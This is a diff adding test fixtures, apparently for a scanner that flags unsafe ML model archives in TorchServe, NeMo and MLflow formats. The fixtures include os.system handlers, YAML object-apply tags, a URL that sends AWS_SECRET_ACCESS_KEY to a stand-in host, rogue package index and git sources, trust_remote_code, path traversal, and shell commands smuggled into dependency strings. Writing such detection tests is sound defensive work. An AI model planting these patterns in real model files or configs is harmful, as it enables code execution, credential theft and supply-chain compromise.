@@ -77,6 +77,8 @@ def torchserve() -> dict[str, Files]:
         "handler-os.mar": mar({"handler": "os:system"}),
         "handler-reexport.mar": mar({"handler": "logging.os:system"}),
         "handler-subprocess.mar": mar({"handler": "subprocess:run"}),
+        "requirements-other-name.mar": mar({"handler": "image_classifier", "requirementsFile": "needs"}, needs=b"--index-url http://seamark.invalid/simple\nnumpy\n"),
+        "requirements-disguised.mar": mar({"handler": "image_classifier", "requirementsFile": "logo.gif"}, logo__gif=b"GIF89a @ https://seamark.invalid/x.zip\n"),
         "handler-outside.mar": mar({"handler": "../../tmp/handler.py"}),
         "handler-elsewhere.mar": mar({"handler": "seamark_custom:handle"}),
         "handler-built-in-name.mar": mar({"handler": "image_classifier.py"}, image_classifier__py=_ACT + _HANDLER),
@@ -127,6 +129,10 @@ def nemo() -> dict[str, Files]:
         "yaml-tag.nemo": archive("a: !!python/object/apply:os.system ['echo seamark-harmless']\n"),
         "environment.nemo": archive("a: 'https://seamark.invalid/${oc.env:AWS_SECRET_ACCESS_KEY}'\n"),
         "unpacked": {"model_config.yaml": b"e: {_target_: os.system}\n", "model_weights.ckpt": _PAYLOAD},
+        "remote-code.nemo": archive("tokenizer: {library: huggingface, type: seamark/x, trust_remote_code: true}\n"),
+        "restore-elsewhere.nemo": archive("restore_from_path: /tmp/seamark.nemo\n"),
+        "checkpoint-elsewhere.nemo": archive("language_model: {lm_checkpoint: ../../tmp/seamark.ckpt}\n"),
+        "tokenizer-elsewhere.nemo": archive("tokenizer: {type: bpe, dir: /tmp/seamark}\n"),
     }  # fmt: skip
 
 
@@ -153,6 +159,9 @@ def mlflow() -> dict[str, Files]:
                           "data/pickle_module_info.txt": b"seamark_unpickler", "data/model.safetensors": _NUMBERS},
         "pickle-module-os": {**dict(model("pytorch: {model_data: data}\n")),  # type: ignore[arg-type]
                              "data/pickle_module_info.txt": b"os", "data/model.safetensors": _NUMBERS},
+        "env-other-name": model("python_function: {loader_module: mlflow.sklearn, env: {virtualenv: needs.in}}\n", **{"needs.in": b"dependencies: ['--index-url http://seamark.invalid/simple', numpy]\n"}),
+        "env-include": model(plain, conda__yaml=b"dependencies: [{pip: ['-r needs.in']}]\n", **{"needs.in": b"git+https://seamark.invalid/x.git\n"}),
+        "env-lock": model(plain, **{"uv.lock": b'version = 1\n[[package]]\nname = "x"\nsource = { git = "https://seamark.invalid/x?rev=main" }\n'}),
         "env-command": model(plain, python_env__yaml=b"python: 3.11.7\ndependencies:\n- 'numpy; echo seamark-harmless'\n"),
         "env-substitution": model(plain, python_env__yaml=b"python: 3.11.7\ndependencies: ['numpy$(echo seamark-harmless)']\n"),
         "env-python": model(plain, python_env__yaml=b"python: '3.11; echo seamark-harmless'\n"),
